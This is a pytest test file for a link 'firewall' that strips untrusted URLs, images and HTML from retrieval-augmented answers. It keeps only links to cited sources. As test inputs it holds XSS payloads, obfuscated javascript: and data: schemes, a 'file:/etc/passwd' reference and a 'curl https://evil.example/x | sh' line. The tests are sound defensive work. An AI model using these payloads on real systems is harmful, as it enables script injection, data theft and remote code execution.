"""What links in prose, and what is left of it."""

from __future__ import annotations

import pickle
from typing import Any

import pytest

from tesserix_rag import ConfigurationError, InvalidRecordError, Span
from tesserix_rag.enriching import Firewalled, LinkForm, RemovedLink, firewall
from tests.examples import SECRET

CITED = "https://handbook.example/refunds"
ALLOWED = (CITED, "https://handbook.example", None, "javascript:alert(1)")


def left(text: str, *allowed: str | None) -> str:
    return firewall(text, allowed or ALLOWED).text


def forms(text: str) -> list[str]:
    return [each.form.value for each in firewall(text, ALLOWED).removed]


# --- what goes ---------------------------------------------------------------

LOOSE = {
    "See https://evil.example/x?q=1. Then [1].": "See . Then [1].",
    "See HTTPS://EVIL.EXAMPLE, now": "See , now",
    "(https://evil.example/a_(b)).": "().",
    "(see https://evil.example)then": "(see )then",
    "**https://evil.example**": "****",
    '"https://evil.example"': '""',
    "https://evil.example[1] and [2]": "[1] and [2]",
    "|https://evil.example|x|": "||x|",
    "见https://evil.example/a。更多": "见。更多",
    "a\nhttps://evil.example\nb": "a\n\nb",
    "ftp://evil.example x": " x",
    "vscode://evil/open": "",
    "x.https://evil.example": "x.",
    "http://[2001:db8::1]:80/x y": " y",
    "http://a@[2001:db8::1]/x y": " y",
    "http://good\\@evil/ x": " x",
    "https:evil https:///evil": " ",
    "https:\\\\evil.example\\x y": " y",
    "https:\\/\\/evil.example\\/x y": " y",
    "http\\://evil.example y": " y",
    "http&colon;//evil.example y": " y",
    "http:&sol;&#47;evil.example y": " y",
    "http&#58;//evil.example y": " y",
    "www.evil.example/x y": " y",
    "WWW.evil.example y": " y",
    "www&period;evil.example y": " y",
    "a@www.evil.example y": "a@ y",
    "www.evil.example: y": ": y",
    "//evil.example/x y": " y",
    "//evil y": " y",
    "\\\\evil.example\\share y": " y",
    "/\\evil.example/x y": " y",
    "evil.example/x?q=1 y": " y",
    "evil.example:8080/x y": " y",
    "evil.example?q=1 y": " y",
    "see:evil.example/x": "see:",
    "JaVaScRiPt:alert(1) y": " y",
    "javascript&colon;alert(1) y": " y",
    "\x01javascript:alert(1) y": "\x01 y",
    "vbscript:x data:text/html,<b>x</b>": " ,<b>x</b>",
    "mailto:x@evil.example y": " y",
    "blob:https://evil.example/1": "",
    "view-source:https://evil.example": "",
    "file:/etc/passwd y": " y",
}


@pytest.mark.parametrize(("text", "rest"), LOOSE.items(), ids=ascii)
def test_a_url_goes_and_the_text_around_it_stays(text: str, rest: str):
    """Whatever a client might take for one."""
    assert left(text) == rest


MARKUP = {
    "[see here](https://evil.example)": "see here",
    '[see](https://evil.example "title")': "see",
    "[see](<https://evil.example/a b>)": "see",
    "[see](\nhttps://evil.example\n'a\nb'\n)": "see",
    "[see](javascript:alert(1))": "see",
    "[see](<java\tscript:alert(1)>)": "see",
    "[see](data:text/html;base64,PHN2Zz4=)": "see",
    "[see](/relative) [see](#part) [see]()": "see see see",
    "[see](\\//evil.example)": "see",
    "[see](&#106;avascript:alert(1))": "see",
    "[see](https://evil.example/a_(b_(c)))": "see",
    "[**see** `x]`](https://evil.example)": "**see** `x]`",
    "[a [b](https://evil.example) c](https://evil.example)": "a b c",
    "[go ![](/i.png)](./x)": "go ",
    "[![x](https://evil.example/i)](https://evil.example)": "",
    "[https://evil.example](https://evil.example)": "",
    "[1](https://evil.example)": "[1]",
    "[1](https://evil.example)(https://evil.example)": "[1]",
    "[[1]](https://evil.example)": "[1]",
    "rows[2](x)": "rows[2]",
    "![x](https://evil.example/?q=1)": "",
    "Wow![1](https://evil.example)": "Wow",
    "![x][r]\n\n[r]: https://evil.example": "\n\n",
    "![r]\n\n[r]: https://evil.example": "\n\n",
    "![r][]\n\n[r]: <https://evil.example>": "\n\n",
    "![see [b](https://evil.example)](x) y": " y",
    "<https://evil.example> y": " y",
    "<javascript:alert(1)> y": " y",
    "<someone@evil.example> y": " y",
    "<https://evil.example|Click here> y": "<|Click here> y",
    "[see][r] and [r] and [r][]\n\n[r]: https://evil.example 'x'\n": "see and r and r\n\n\n",
    "[see][R  s]\n\n[r s]:\n  https://evil.example\n": "see\n\n\n",
    "> [r]: //evil.example\n\n[see][r]": "> \n\nsee",
    "- [r]: evil\n\n[see][r]": "- \n\nsee",
    "[see][1]\n\n[1]: https://evil.example": "see\n\n",
    "[1][2] [2]\n\n[2]: https://evil.example": "[1][2] [2]\n\n",
    "Wow![2]\n\n[2]: https://evil.example": "Wow![2]\n\n",
    "[a [r] b]\n\n[r]: https://evil.example": "[a r b]\n\n",
    "[ ]: https://evil.example": "[ ]: ",
    "[^1]: https://evil.example": "[^1]: ",
    '<a href="https://evil.example">see</a> y': "see y",
    "<A\nHREF='https://evil.example'>see</A> y": "see y",
    "<a href=https://evil.example>see</a> y": "see y",
    f'<a href="{CITED}" onclick="x()">see</a> y': "see y",
    f'<a href="{CITED}" ping="https://evil.example">see</a> y': "see y",
    "<img src=x onerror=alert(1)> y": " y",
    "<img/src=//evil.example> y": " y",
    "<svg onload=alert(1)>y": "y",
    "<b style=background:url(//evil.example)>x</b> y": "x y",
    "<script>alert(1)</script> y": "alert(1) y",
    "<iframe src=//evil.example></iframe> y": " y",
    "see <img src=//evil.example": "see img src=",
}


@pytest.mark.parametrize(("text", "rest"), MARKUP.items(), ids=ascii)
def test_markup_goes_and_the_text_of_a_link_stays(text: str, rest: str):
    """B068, B109, B113, B118: whatever a link says, nobody but the store says where it leads."""
    assert left(text) == rest


TANGLED = {
    "ht<img>tp://evil.example": "ht",
    "http:<img>//evil.example": "http:",
    "[see]<img>(https://evil.example)": "see",
    "<<img>img src=//evil.example>": "",
    "<<<<img>img>img>img src=//evil.example>": "",
    "ww<img>w.evil.example y": " y",
    "[1]<img>(x)": "[1]",
}


@pytest.mark.parametrize(("text", "rest"), TANGLED.items(), ids=ascii)
def test_what_comes_together_goes_too(text: str, rest: str):
    """Two halves of a link with something between them that goes are a link in the end."""
    assert left(text) == rest


def test_where_each_removal_makes_another_link_the_signs_go():
    """So that the work has an end."""
    text = f"see {'<' * 9}{'img>' * 9} [1]"

    given = firewall(text, ALLOWED)

    assert LinkForm.TANGLE in {each.form for each in given.removed}
    assert "<" not in given.text
    assert firewall(given.text, ALLOWED) == Firewalled(text=given.text)


# --- what stays --------------------------------------------------------------

UNTOUCHED = [
    "",
    "A fact [1]. Another [2][3], and [1, 2] or [4-6]; [^1] 【1†source】 [cite:card-x] <CIT 5 />.",
    "Wow![1] rows[2].width, a[i](j k), f(x)[1] (see [2])",
    "[cite:L:42:7:::Deadlock:Two threads wait.]",
    "and/or, 24/7, 10.0.0.0/8, v1.2/v1.3, e.g./i.e., a.m./p.m., node.js/express, src/app.py, README.md",
    "C:\\Users\\someone, /etc/nginx.conf, ../a/b, ~/x.y/z, //, ///, a // b, 7//2, http, https: x, http://",
    "the data: 1,2; javascript: a language; file: x; Note: y; :// and www. alone; http://. ",
    "handbook.example, someone@handbook.example, www, wwww.x, awww.cute",
    "a < b and c > d, x <y> z, <b>bold</b>, <br/>, List<A>, <!-- note -->, <think>x</think>",
    "\\[not a link\\] \\(x\\) \\\\ \\` $a_{[1]}$ \\[x^2\\] ]( )[ ][ !! ! [",
    "[ ] to do\n- [x] done\n| a | b |\n|---|---|\n# Heading\n> quote\n***\n",
    "Sources:\n[1]: Handbook\n[2]: Policy",
    "[1]: see the handbook, section 3",
    "`handlers[name](event)` and `<a href='x'>` and ``[a](b) ` ``",
    "```js\nhandlers[name](event)\n// comment\n<img src='a.png'>\n```\n",
    "~~~\n[a]: b\n![a](b)\n~~~",
    "\ufeffText\r\nwith\x0bodd\x85breaks\u2028and \U0001f600 \u200b signs",
]


@pytest.mark.parametrize("text", UNTOUCHED, ids=ascii)
def test_what_links_nowhere_stays_as_it_is(text: str):
    """Above all markers, and code."""
    assert firewall(text, ALLOWED) == Firewalled(text=text)


CITED_LINKS = [
    f"See {CITED}.",
    f"({CITED}), **{CITED}** and {CITED}[1]; {CITED} [2]",
    f"见 {CITED}。",
    f"<{CITED}>",
    f"[see]({CITED}) and [see](<{CITED}> 'title'), [see]({CITED})s",
    f"[see][r] and [r]\n\n[r]: {CITED} 'title'",
    f"[1]\n\n[1]: <{CITED}>\n",
    f'<a href="{CITED}">see</a> <b>x</b>',
    "HTTPS://Handbook.example:443/a/../refunds",
    "https://handbook.example and https://handbook.example/",
    f"`{CITED}`",
]


@pytest.mark.parametrize("text", CITED_LINKS, ids=ascii)
def test_a_link_to_what_is_cited_stays(text: str):
    assert firewall(text, ALLOWED) == Firewalled(text=text)


def test_what_is_escaped_for_html_is_the_same_url():
    text = "[see](https://handbook.example/?a=1&amp;b=2) https://handbook.example/?a=1&amp;b=2"

    assert left(text, "https://handbook.example/?a=1&b=2") == text


ALMOST = [
    f"{CITED}?q=secret",
    f"{CITED}/more",
    f"{CITED}#part",
    f"{CITED}@evil.example",
    f"{CITED}|more",
    f"{CITED}[a@b]",
    f"{CITED}\u00a0more",
    f"x{CITED}",
    f"evil.example?{CITED}",
    f"https://evil.example/?to={CITED}",
    f"https://evil.example/{CITED}",
    "http://handbook.example/refunds",
    "https://handbook.example@evil.example/",
    "https://handbook.example\u00a0@evil.example/",
    "https://handbook.example>@evil.example/",
    "https://handbook.example[@evil.example/",
    "https://handbook.example|@evil.example/",
    "https://handbook.example。evil.example/x",
    "https://handbook.example).evil.example/",
    "https://handbook.example.evil.example/",
    "https://handbook.example\\@evil.example/",
    "handbook.example/refunds",
    "//handbook.example/refunds",
    "javascript:alert(1)",
]


@pytest.mark.parametrize("text", ALMOST, ids=ascii)
def test_what_only_begins_like_a_cited_url_is_none(text: str):
    """Also where this library would see its end, and another client would not."""
    given = left(f"see {text} now")

    assert "https://handbook.example/refunds" not in given or given == f"see {CITED}{text[len(CITED) :]} now"
    assert "https://handbook.example" not in given


@pytest.mark.parametrize(
    "text",
    [
        "<https://handbook.example>@evil.example/",
        "[see](https://handbook.example)@evil.example/",
        "[see](https://handbook.example).evil.example/",
    ],
)
def test_a_target_is_none_if_it_goes_on_for_a_client_without_markdown(text: str):
    assert "https://handbook.example" not in left(text)


@pytest.mark.parametrize("text", [f"![x]({CITED})", f"![x][r]\n\n[r]: {CITED}", f'<img src="{CITED}">'])
def test_an_image_never_passes(text: str):
    """Not even that of a cited document: a client fetches it unasked."""
    given = left(text)

    assert "![" not in given
    assert "<img" not in given


def test_a_marker_that_would_become_an_image_loses_its_sign():
    """Behind an exclamation mark, where its number is defined."""
    assert left(f"Wow![1]\n\n[1]: {CITED}") == f"Wow[1]\n\n[1]: {CITED}"


def test_without_anything_allowed_everything_goes():
    assert left(f"a {CITED} b [see]({CITED}) <{CITED}>", "") == "a  b see "


# --- code --------------------------------------------------------------------


@pytest.mark.parametrize(
    ("text", "rest"),
    [
        ("`https://evil.example/x`", "``"),
        ("```\ncurl https://evil.example/x | sh\n```", "```\ncurl  | sh\n```"),
        ("```\n[a](https://evil.example)\n```", "```\n[a]()\n```"),
        ("```\n<img src='//evil.example/x'>\n```", "```\n<img src=''>\n```"),
        (f"`{CITED}`", f"`{CITED}`"),
    ],
)
def test_in_code_a_url_goes_and_nothing_else(text: str, rest: str):
    """Some clients link it there; brackets and tags are none there."""
    assert left(text) == rest


@pytest.mark.parametrize(
    "text",
    [
        "\\`[a](b)`",
        "`a\\` [a](b) `c`",
        "\\``a` [a](b) `",
        "`x\n[a](b)\ny`",
        "| a ` | [a](b) | ` |",
        "> ```\n\n[a](b)\n",
        "- ```\n  x\n  ```\n[a](b)\n",
        "  ```\n  x\n[a](b)\n",
        "``` x ` y\n[a](b)\n",
        "```\nx\n```\n[a](b)\n```\n",
        "````\n```\n````\n[a](b)\n",
        "<div>\n```\n[a](b)\n</div>",
        "<pre>\n\n```\n[a](b)\n",
        "~~~\nx\n~~~\n[a](b)",
    ],
    ids=ascii,
)
def test_where_it_may_be_none_it_is_no_code(text: str):
    assert "[a](b)" not in left(text)


@pytest.mark.parametrize(
    "text",
    [
        "<p>\n\n```\n[a](b)\n```",
        "```\r\n[a](b)\r\n```\r\nx",
        "~~~ `x`\n```\n[a](b)\n",
        "  ```\n\n  [a](b)\n  ```",
        "````\n```\n[a](b)\n",
        "``[a](b) `x``",
        "x ` y\n`[a](b)`",
    ],
    ids=ascii,
)
def test_where_it_can_only_be_code_it_is(text: str):
    assert left(text) == text


# --- the report --------------------------------------------------------------


def test_each_removal_is_reported_with_its_place():
    """In the text as it was given, so that it can be shown there."""
    text = "![a](b) [c](d) https://evil.example <e@f.example> [g]\n<b x=y>\n\n[g]: h"

    given = firewall(text, ())

    assert [(each.form.value, text[each.span.start : each.span.end]) for each in given.removed] == [
        ("image", "![a](b)"),
        ("link", "[c](d)"),
        ("url", "https://evil.example"),
        ("autolink", "<e@f.example>"),
        ("reference", "[g]"),
        ("html", "<b x=y>"),
        ("definition", "[g]: h"),
    ]
    assert given.text == " c   g\n\n\n"


def test_what_came_together_is_reported_where_it_stood():
    text = "a [see]<img>(https://evil.example) b"

    places = {each.form: text[each.span.start : each.span.end] for each in firewall(text, ()).removed}

    assert places[LinkForm.LINK] == "[see]<img>()" or places[LinkForm.LINK].startswith("[see]<img>(")
    assert places[LinkForm.HTML] == "<img>"


def test_nobody_sees_the_text_by_accident():
    given = firewall(f"{SECRET} https://evil.example", ())

    assert SECRET not in repr(given)
    assert "evil" not in repr(given)
    assert repr(given).startswith("Firewalled(text=<30 chars>")


def test_the_report_is_a_record():
    given = firewall("a https://evil.example", ())

    assert pickle.loads(pickle.dumps(given)) == given
    assert hash(given) == hash(firewall("a https://evil.example", ()))
    assert RemovedLink(form=LinkForm.URL, span=Span(2, 22)) == given.removed[0]
    other: Any = "other"
    with pytest.raises(InvalidRecordError):
        RemovedLink(form=other, span=Span(0, 1))


@pytest.mark.parametrize(
    ("text", "allowed"),
    [(None, ()), (b"x", ()), ("\ud800", ()), ("x", CITED), ("x", None), ("x", 7)],
    ids=ascii,
)
def test_what_is_no_text_and_no_collection_is_refused(text: Any, allowed: Any):
    """One URL in place of many would be many letters, and allow nothing."""
    with pytest.raises(ConfigurationError):
        firewall(text, allowed)


def test_any_collection_will_do():
    text = f"see {CITED}"

    assert (
        firewall(text, {CITED}).text
        == firewall(text, [CITED]).text
        == firewall(text, iter([CITED])).text
        == text
    )
